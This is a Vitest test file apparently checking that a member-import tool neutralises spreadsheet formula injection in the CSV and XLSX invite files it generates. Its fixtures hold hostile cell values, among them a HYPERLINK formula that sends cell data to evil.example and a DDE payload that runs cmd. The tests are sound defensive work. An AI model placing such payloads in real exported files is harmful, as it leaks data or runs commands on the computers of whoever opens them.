import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { startsFormula } from '../../../src/formats/table/cells.js';
import { loadFiles } from '../../helpers/desired.js';
import { acmeVision, deepomaticProject, HEADER } from './project.js';

/** Names and descriptions a spreadsheet would run as formulas. */
const HOSTILE = [
  'eve@acme.com,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",Doe,"+33 6 12 34 56 78"',
  "mal@acme.com,@SUM(1+1),-Smith,=cmd|' /C calc'!A0",
];
const MEMBERS = `${[HEADER, ...HOSTILE].join('\n')}\n`;
const WANT = {
  'eve@acme.com': {
    firstName: '=HYPERLINK("http://evil.example/?"&A1,"x")',
    lastName: 'Doe',
    description: '+33 6 12 34 56 78',
  },
  'mal@acme.com': { firstName: '@SUM(1+1)', lastName: '-Smith', description: "=cmd|' /C calc'!A0" },
};

const CONFIG =
  'version: 1\ntargets:\n  - name: t\n    provider: local\n    format: deepomatic\n    members: [members.*]\n';

describe('Deepomatic invite files and formula injection', () => {
  it('CSV: neutralizes formula cells, reads back the same, and the platform keeps the exact values', async () => {
    const platform = acmeVision();
    const p = deepomaticProject(platform, { files: { 'team.csv': MEMBERS }, uploads: true });
    const outcome = await p.apply();
    const [file] = p.runFiles(outcome.report!.runId);
    const text = readFileSync(file!, 'utf8');
    const cells = (parse(text, { delimiter: ',' }) as string[][]).flat();
    expect(cells.filter(startsFormula)).toEqual([]);
    const back = await loadFiles({ 'rollcall.yaml': CONFIG, 'members.csv': text });
    expect(back.errors).toEqual([]);
    for (const [key, fields] of Object.entries(WANT)) expect(back.members.get(key)).toMatchObject(fields);
    for (const [key, fields] of Object.entries(WANT)) expect(platform.find(key)).toMatchObject(fields);
    const next = await p.plan();
    expect(next.changes).toEqual([]);
    expect(next.blocked).toEqual([]); // no name differs: nothing the platform cannot change is left
  });

  it('XLSX: every cell is typed text, never a formula, and keeps the exact value', async () => {
    const platform = acmeVision();
    const p = deepomaticProject(platform, {
      files: { 'team.csv': MEMBERS },
      uploads: true,
      fileFormat: 'xlsx',
    });
    const outcome = await p.apply();
    const [file] = p.runFiles(outcome.report!.runId);
    expect(file).toMatch(/01-invite-annotator-at-lyon\+paris\.xlsx$/);
    const bytes = readFileSync(file!);
    const sheets = unzipSync(new Uint8Array(bytes), { filter: (f) => f.name.startsWith('xl/worksheets/') });
    const xml = Object.values(sheets)
      .map((b) => strFromU8(b))
      .join('');
    expect(xml).not.toMatch(/<f[ >]/);
    const back = await loadFiles({ 'rollcall.yaml': CONFIG, 'members.xlsx': bytes });
    expect(back.errors).toEqual([]);
    for (const [key, fields] of Object.entries(WANT)) expect(back.members.get(key)).toMatchObject(fields);
    for (const [key, fields] of Object.entries(WANT)) expect(platform.find(key)).toMatchObject(fields);
    expect((await p.plan()).changes).toEqual([]);
  });
});
